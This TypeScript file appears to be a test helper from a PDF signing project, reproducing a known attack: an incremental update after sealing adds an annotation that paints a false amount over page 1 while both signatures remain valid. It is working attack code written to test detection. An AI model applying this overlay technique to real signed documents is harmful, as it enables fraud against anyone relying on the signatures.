/**
 * The attack of issue 18: after the seal, an incremental update adds an annotation to page 1 whose
 * appearance paints other figures over the text. Both signatures stay intact (their bytes are untouched);
 * only the review of the update can tell. Written with the project's own incremental writer.
 */
import { PDFArray, PDFDict, PDFName, PDFRef, type PDFObject } from 'pdf-lib';
import { appendIncrementalUpdate } from '../../signing/incremental';
import { readTail } from '../../signing/pdf-tail';
import { revisionEndingAt } from '../../signing/revisions';

const bytesOf = (o: PDFObject) => {
	const out = new Uint8Array(o.sizeInBytes());
	o.copyBytesInto(out, 0);
	return out;
};

export function appendOverlayAnnotation(pdf: Uint8Array, text = '99,9 tỷ đồng'): Uint8Array {
	const tail = readTail(pdf);
	const doc = revisionEndingAt(pdf, pdf.length);
	const ctx = doc.context;
	const catalog = doc.dict(doc.rootRef)!;
	const pageRef = doc.array(doc.dict(catalog.get(PDFName.of('Pages')))!.get(PDFName.of('Kids')))!.get(0) as PDFRef;
	const page = doc.dict(pageRef)!;
	const apNum = tail.size;
	const annotNum = tail.size + 1;
	const drawing = `1 1 1 rg 0 0 220 30 re f 0 0 0 rg BT /Helvetica 18 Tf 4 8 Td (${text.normalize('NFD').replace(/[^\x20-\x7e]/g, '')}) Tj ET`;
	const ap = `<< /Type /XObject /Subtype /Form /BBox [0 0 220 30] /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`;
	const annot = ctx.obj({ Type: 'Annot', Subtype: 'FreeText', Rect: [300, 500, 520, 530], AP: { N: PDFRef.of(apNum) } });
	const annots = doc.array(page.get(PDFName.of('Annots')))?.asArray() ?? [];
	const newPage = page.clone(ctx) as PDFDict;
	newPage.set(PDFName.of('Annots'), ctx.obj([...annots, PDFRef.of(annotNum)]) as PDFArray);
	return appendIncrementalUpdate(
		pdf,
		tail,
		[
			{ objectNumber: pageRef.objectNumber, generation: 0, body: bytesOf(newPage) },
			{ objectNumber: apNum, generation: 0, body: Buffer.from(ap, 'latin1') },
			{ objectNumber: annotNum, generation: 0, body: bytesOf(annot) }
		],
		{ root: String(doc.rootRef), id: doc.trailer.get(PDFName.of('ID'))?.toString() }
	).bytes;
}
